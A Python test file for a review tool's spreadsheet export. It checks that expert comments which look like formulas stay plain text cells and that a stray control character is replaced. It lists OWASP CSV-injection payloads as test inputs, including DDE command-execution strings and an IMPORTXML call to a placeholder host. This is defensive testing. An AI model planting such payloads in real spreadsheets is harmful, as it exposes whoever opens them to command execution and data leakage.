"""panel-scores.xlsx writes every text as text: an expert's comment that starts like a formula (OWASP's
CSV-injection payloads) is a string cell, never a live formula; a character XML cannot hold, in a
comment a home stored before the text rule, becomes U+FFFD instead of crashing the chair's compile."""
from __future__ import annotations

import json
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from review_model.chair.compile import compile_panel
from review_model.chair.intake import import_returns
from review_model.chair.result import write_result
from review_model.exchange.package import open_package
from review_model.identity import signing_key
from review_model.store.models import ChairSheet
from tests.support.panel_round import Sheet as S
from tests.support.panel_round import make_panel_round

# https://owasp.org/www-community/attacks/CSV_Injection, and the variants spreadsheets also run
PAYLOADS = ['=HYPERLINK("http://x","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1", "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://x/?", A1), "//a")', "=DDE(\"cmd\";\"/C calc\";\"A\")"]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    root = tmp_path_factory.mktemp("workbook")
    panel = make_panel_round(root, experts=3, policy={"method": "mean"}, applicants=3)
    codes = ("1.1", "1.2", "2.1", "B1")
    ids = ("A01", "A02", "A03")
    chunks = [PAYLOADS[i:i + 4] for i in range(0, len(PAYLOADS), 4)]
    sheets = {a: [S("30", "20", "25", "1", comments=dict(zip(codes, chunk)))] for a, chunk in zip(ids, chunks)}
    files = [panel.bundle(e, sheets if e == "E02" else {a: [S("30", "20", "25")] for a in ids})
             for e in ("E01", "E02", "E03")]
    with panel.home() as home:
        with open_package(panel.package) as package:
            assert all(o.status == "imported" for o in import_returns(home, package, files).outcomes)
        # a home from before the text rule: a stored comment holding a control character (BEL)
        with home.store.write("test") as (session, _audit):
            row = session.scalars(select(ChairSheet).where(ChairSheet.expert_id == "E03",
                                                           ChairSheet.applicant_id == "A01")).one()
            doc = json.loads(row.signed_json)
            doc["items"][0]["comment"] = "现场\x07核查"
            row.signed_json = json.dumps(doc, ensure_ascii=False).encode("utf-8")
        comp = compile_panel(home)
        write_result(home, comp, root / "out", signing_key(home, person_id="E01"))
    return root / "out" / "panel-scores.xlsx"


def test_formula_like_comments_are_string_cells(written):
    with zipfile.ZipFile(written) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(written)
    items = book["评分明细"]
    comments = {(r[0].value, r[3].value, r[7].value): r[11] for r in items.iter_rows(min_row=2)}
    found = [c.value for (_a, expert, _i), c in comments.items() if expert == "E02" and c.value]
    assert sorted(found) == sorted(p.replace("\r", "\n") for p in PAYLOADS)  # XML reads a CR as a line feed
    assert all(c.data_type == "s" for (_a, expert, _i), c in comments.items() if expert == "E02" and c.value)


def test_a_stored_control_character_becomes_a_replacement_character(written):
    book = openpyxl.load_workbook(written)
    comments = {(r[0].value, r[3].value, r[7].value): r[11].value for r in book["评分明细"].iter_rows(min_row=2)}
    assert comments[("A01", "E03", "1.1")] == "现场\ufffd核查"
